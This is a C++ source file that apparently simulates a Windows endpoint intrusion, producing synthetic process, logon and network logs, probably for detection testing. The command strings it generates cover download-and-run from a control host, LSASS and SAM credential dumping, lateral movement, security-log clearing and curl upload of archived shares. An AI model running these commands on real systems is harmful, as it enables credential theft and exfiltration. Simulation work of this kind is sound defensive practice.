#include "simulate/detail/endpoint_intrusion.h"

#include <algorithm>
#include <array>

#include <fmt/format.h>

#include "base/digest.h"
#include "base/utf8.h"

namespace winnow::simulate {
namespace {

using std::chrono::hours;
using std::chrono::minutes;
using std::chrono::seconds;

// PowerShell wants UTF-16.
std::string encoded(std::string_view script) {
  std::string wide;
  for (const char c : script) wide += {c, '\0'};
  return to_base64(wide);
}

}  // namespace

EndpointIntrusion::EndpointIntrusion(IntrusionPlan plan) : plan_(std::move(plan)) {
  auto rng = plan_.rng.fork("endpoint");
  word_ = ascii_lower(invented_word(rng, 2));
  // Their program bears a name of its own, or one that programs bear here; some forge a maker.
  static constexpr std::array kBorrowed = {"updater.exe", "agent.exe", "OneDriveSetup.exe",
                                           "RuntimeBroker.exe", "helper.exe"};
  const std::string leaf = rng.chance(0.5) ? rng.pick(kBorrowed) : word_ + ".exe";
  static constexpr std::array kFolders = {R"(AppData\Roaming\{}\)", R"(AppData\Local\{}\)",
                                          R"(AppData\Local\Temp\)", R"(Downloads\)"};
  const auto folder = fmt::format(fmt::runtime(rng.pick(kFolders)), word_);
  program_.path = rng.chance(0.15)
                      ? fmt::format(R"(C:\ProgramData\{}\{})", word_, leaf)
                      : fmt::format(R"(C:\Users\{}\{}{})", plan_.account.name, folder, leaf);
  if (rng.chance(0.4)) program_.maker = rng.chance(0.5) ? "Microsoft Corporation" : word_;
  if (rng.chance(0.5)) program_.original = rng.chance(0.5) ? leaf : word_ + ".dll";
  way_in_ = static_cast<int>(rng.below(4));
  way_to_stay_ = static_cast<int>(rng.below(3));
  way_to_steal_ = static_cast<int>(rng.below(4));
  way_to_move_ = static_cast<int>(rng.below(4));
  hides_inside_ = rng.chance(0.4);
  by_powershell_ = rng.chance(0.5);
  clears_log_ = rng.chance(0.2);
  talkative_ = rng.pick(std::array{1.5, 3.0, 6.0});
}

Process EndpointIntrusion::get_in(Timestamp at, const MachineDay& machine, AgentLog& log) const {
  auto& rng = log.rng();
  const auto home = R"(C:\Users\)" + plan_.account.name;
  const auto address = fmt::format("https://{}/{}", plan_.master, word_);
  if (!plan_.at_work) {  // somebody else signs in with the person's password
    const auto session =
        log.session(machine.host.name, machine.host.address, plan_.account.name, "Medium");
    log.log_on(
        at, session,
        {.type = 10,
         .source_address =
             rng.chance(0.5) ? public_ipv4(rng) : fmt::format("10.99.0.{}", rng.between(2, 250))});
    const auto desktop = log.running(
        session, {R"(C:\Windows\explorer.exe)", "Microsoft Corporation", "EXPLORER.EXE"});
    log.write_file(at + seconds(100), desktop, program_.path);
    return log.start(at + seconds(120), desktop, program_, fmt::format(R"("{}")", program_.path));
  }
  switch (way_in_) {
    case 0: {  // a document's macro
      const Image word{R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)",
                       "Microsoft Corporation", "WINWORD.EXE"};
      const auto document = log.start(at, machine.shell, word,
                                      fmt::format(R"("{}" /n "{}\Downloads\{}-{}.docm")", word.path,
                                                  home, word_, rng.below(100)));
      const auto script =
          fmt::format("$c=New-Object Net.WebClient;$c.DownloadFile('{}','{}');Start-Process '{}'",
                      address, program_.path, program_.path);
      const auto shell = by_powershell_
                             ? log.start(at + seconds(20), document, of_powershell(),
                                         "powershell.exe -nop -w hidden -enc " + encoded(script))
                             : log.start(at + seconds(20), document, of_system("cmd.exe"),
                                         fmt::format(R"(cmd.exe /c curl -s {} -o "{}" && "{}")",
                                                     address, program_.path, program_.path));
      if (by_powershell_ && rng.chance(0.6))
        log.run_script(at + seconds(21), machine.person, script);
      log.connect(at + seconds(22), shell, plan_.master_address, 443, plan_.master);
      log.write_file(at + seconds(24), shell, program_.path);
      return log.start(at + seconds(30), shell, program_, fmt::format(R"("{}")", program_.path));
    }
    case 1: {  // a script out of an archive
      const auto script =
          log.start(at, machine.shell, of_system("wscript.exe"),
                    fmt::format(R"("C:\Windows\System32\WScript.exe" "{}\Downloads\{}_{}.js")",
                                home, word_, rng.below(1000)));
      log.look_up(at + seconds(3), script, plan_.master);
      log.connect(at + seconds(4), script, plan_.master_address, 443, plan_.master);
      log.write_file(at + seconds(6), script, program_.path);
      return log.start(at + seconds(8), script, program_,
                       fmt::format(R"("{}" {})", program_.path, rng.below(100)));
    }
    case 2: {  // a library, by a tool of the system
      const auto library = fmt::format(R"({}\Downloads\{}\{}.dat)", home, word_, word_);
      return log.start(at, machine.shell, of_system("rundll32.exe"),
                       fmt::format(R"("C:\Windows\System32\rundll32.exe" {},{})", library,
                                   rng.chance(0.5) ? "DllMain" : "Start"));
    }
    default: {  // what poses as a useful program: looks like any installation
      const Image setup{fmt::format(R"({}\Downloads\{}-setup.exe)", home, word_), program_.maker,
                        program_.original};
      const auto begun = log.start(at, machine.shell, setup, fmt::format(R"("{}")", setup.path));
      log.write_file(at + seconds(7), begun, program_.path);
      return log.start(at + seconds(12), begun, program_,
                       fmt::format(R"("{}" --first-run)", program_.path));
    }
  }
}

void EndpointIntrusion::stay(Timestamp at, const Place& place, AgentLog& log) const {
  auto& rng = log.rng();
  switch (way_to_stay_) {
    case 0:
      return log.set_value(
          at, place.foothold,
          fmt::format(R"(HKU\S-1-5-21-{}\Software\Microsoft\Windows\CurrentVersion\Run\{})",
                      rng.below(1U << 20), word_),
          program_.path);
    case 1:
      command(
          at, place.foothold, by_powershell_,
          fmt::format(R"(schtasks /create /sc onlogon /tn {} /tr "{}" /f)", word_, program_.path),
          log);
      return log.make_task(at + seconds(1), place.foothold.session, fmt::format(R"(\{})", word_),
                           program_.path, "");
    default:
      return log.write_file(
          at, place.foothold,
          fmt::format(
              R"(C:\Users\{}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\{}.lnk)",
              plan_.account.name, word_));
  }
}

void EndpointIntrusion::look_around(Timestamp at, const Process& from, AgentLog& log) const {
  auto& rng = log.rng();
  for (auto left = 1 + rng.poisson(talkative_); left > 0; --left) {
    command(at, from, by_powershell_, question(rng), log);
    at = at + seconds(rng.between(2, 240));
  }
  if (by_powershell_ && rng.chance(0.4))
    log.run_script(at, from.session,
                   "Get-ADComputer -Filter * -Properties OperatingSystem | Select "
                   "Name,OperatingSystem; Get-ADGroupMember 'Domain Admins'");
}

void EndpointIntrusion::guess_passwords(Timestamp at, const MachineDay& server,
                                        AgentLog& log) const {
  auto& rng = log.rng();
  const bool many_users = rng.chance(0.5);
  for (auto left = rng.between(8, 60); left > 0; --left) {
    at = at + seconds(rng.between(1, 40));
    const auto given = given_name(Language::En, rng);
    const auto user =
        many_users ? mailbox_name(given, family_name(Language::De, rng)) : plan_.stolen.name;
    const auto session = log.session(server.host.name, server.host.address, user, "Medium");
    log.log_on(at, session,
               {.type = 3,
                .source_address = plan_.machine.address,
                .source_host = plan_.machine.name,
                .granted = false,
                .ntlm = true,
                .why_not = many_users && rng.chance(0.3) ? "0xc0000064" : "0xc000006a"});
  }
}

void EndpointIntrusion::steal_credentials(Timestamp at, const Place& place, AgentLog& log) const {
  auto& rng = log.rng();
  const auto& lsass = place.machine->keeper_of_passwords;
  auto session = place.foothold.session;
  session.integrity = "High";
  switch (way_to_steal_) {
    case 0:
      return log.open_process(at, place.foothold, lsass, rng.chance(0.5) ? "0x1010" : "0x1410");
    case 1: {
      const auto dump = log.start_in(
          at, session, place.foothold, of_system("rundll32.exe"),
          fmt::format(
              R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {} C:\Windows\Temp\{}.bin full)",
              lsass.pid, word_));
      return log.open_process(at + seconds(1), dump, lsass, "0x1fffff");
    }
    case 2: {
      const auto shell = log.start_in(
          at, session, place.foothold, of_system("cmd.exe"),
          fmt::format(R"(cmd.exe /c reg save HKLM\SAM C:\Windows\Temp\{}.sav)", word_));
      log.start(at + seconds(1), shell, of_system("reg.exe"),
                fmt::format(R"(reg save HKLM\SAM C:\Windows\Temp\{}.sav)", word_));
      return;
    }
    default: {
      const Image dump{R"(C:\Tools\procdump64.exe)", "Sysinternals - www.sysinternals.com",
                       "procdump"};
      const auto dumping = log.start_in(
          at, session, place.foothold, dump,
          fmt::format(R"(procdump64.exe -accepteula -ma {} C:\Temp\{}.dmp)", lsass.pid, word_));
      return log.open_process(at + seconds(1), dumping, lsass, "0x1fffff");
    }
  }
}

void EndpointIntrusion::move_on(Timestamp at, const Place& from, const MachineDay& server,
                                AgentLog& log) const {
  auto& rng = log.rng();
  const auto session =
      log.session(server.host.name, server.host.address, plan_.stolen.name, "High");
  const bool desktop = way_to_move_ == 3;
  log.log_on(at, session,
             {.type = desktop ? 10 : 3,
              .source_address = from.machine->host.address,
              .source_host = from.machine->host.name,
              .ntlm = rng.chance(0.4)});
  Process there;
  switch (way_to_move_) {
    case 0: {  // by a service
      const auto program = fmt::format(R"(C:\Windows\{}.exe)", word_);
      log.reach_share(at + seconds(3), session, from.machine->host.address, "ADMIN$",
                      word_ + ".exe");
      log.install_service(at + seconds(5), session, word_, R"(%SystemRoot%\)" + word_ + ".exe");
      there = log.start(at + seconds(6), server.services,
                        {program, program_.maker, program_.original}, program);
      break;
    }
    case 1: {  // by remote management
      command(
          at, from.foothold, by_powershell_,
          fmt::format(R"(wmic /node:{} process call create "cmd.exe /c whoami")", server.host.name),
          log);
      there = log.start_in(at + seconds(4), session, server.remote_commands, of_system("cmd.exe"),
                           fmt::format(R"(cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__{} 2>&1)",
                                       rng.below(1U << 30)));
      break;
    }
    case 2:  // as administrators do
      there = log.start(at + seconds(4), log.running(session, of_system("wsmprovhost.exe")),
                        of_powershell(), "powershell.exe -NoProfile");
      break;
    default:
      there = log.start(at + seconds(30),
                        log.running(session, {R"(C:\Windows\explorer.exe)", "Microsoft Corporation",
                                              "EXPLORER.EXE"}),
                        of_system("cmd.exe"), "cmd.exe");
  }
  look_around(at + minutes(1), there, log);
  if (clears_log_) {
    command(at + minutes(30), there, by_powershell_, "wevtutil cl Security", log);
    log.clear_log(at + minutes(30) + seconds(2), session);
  }
}

void EndpointIntrusion::take_away(Timestamp at, const Place& place, AgentLog& log) const {
  auto& rng = log.rng();
  const auto archive = fmt::format(R"(C:\Users\Public\{}.7z)", word_);
  const Image packer = rng.chance(0.5)
                           ? Image{R"(C:\Users\Public\7za.exe)", "Igor Pavlov", "7za.exe"}
                           : of_program("Vaultkeep", "7z.exe");
  log.start(at, place.foothold, packer,
            fmt::format(R"("{}" a -mx1 -v200m {} \\files-01\common)", packer.path, archive));
  const auto sender =
      rng.chance(0.5)
          ? place.foothold
          : log.start(at + minutes(4), place.foothold, of_system("curl.exe"),
                      fmt::format("curl.exe -s -T {} https://{}/u", archive, plan_.master));
  for (auto left = rng.between(2, 10); left > 0; --left)
    log.connect(at + minutes(5) + seconds(60 * left), sender, plan_.master_address, 443,
                plan_.master);
}

void EndpointIntrusion::take(const PlannedStep& step, const Place& at_home,
                             const MachineDay& server, AgentLog& log) const {
  switch (step.step) {
    case Step::GetIn:
      return;  // it made the foothold
    case Step::Stay:
      return stay(step.at, at_home, log);
    case Step::LookAround:
      return look_around(step.at, at_home.foothold, log);
    case Step::GuessPasswords:
      return guess_passwords(step.at, server, log);
    case Step::StealCredentials:
      return steal_credentials(step.at, at_home, log);
    case Step::MoveOn:
      return move_on(step.at, at_home, server, log);
    case Step::TakeAway:
      return take_away(step.at, at_home, log);
  }
}

void EndpointIntrusion::act(const std::vector<MachineDay>& machines, Timestamp day,
                            AgentLog& log) const {
  const auto from = std::max(day, plan_.begins), until = std::min(day + hours(24), plan_.ends);
  if (from >= until) return;
  const auto named = [&](const std::string& name) -> const MachineDay& {
    return *std::ranges::find_if(machines,
                                 [&](const MachineDay& one) { return one.host.name == name; });
  };
  log.as(plan_.name);
  const auto& machine = named(plan_.machine.name);
  const bool today = plan_.begins >= day;
  Place home{&machine, today ? get_in(from, machine, log) : log.running(machine.person, program_)};
  if (hides_inside_) {
    const auto host = log.running(machine.person, of_system("RuntimeBroker.exe"));
    if (today) log.run_inside(from + seconds(60), home.foothold, host);
    home.foothold = host;
  }
  for (const auto at : plan_.calls_in(from, until)) {
    // Agents write a name that is looked up once in a while only: the machine remembers it.
    if (log.rng().chance(0.1)) log.look_up(at, home.foothold, plan_.master);
    log.connect(at + std::chrono::milliseconds(30), home.foothold, plan_.master_address, 443,
                plan_.master);
  }
  for (const auto& step : plan_.steps_in(from, until))
    take(step, home, named(plan_.server.name), log);
  log.as("");
}

}  // namespace winnow::simulate
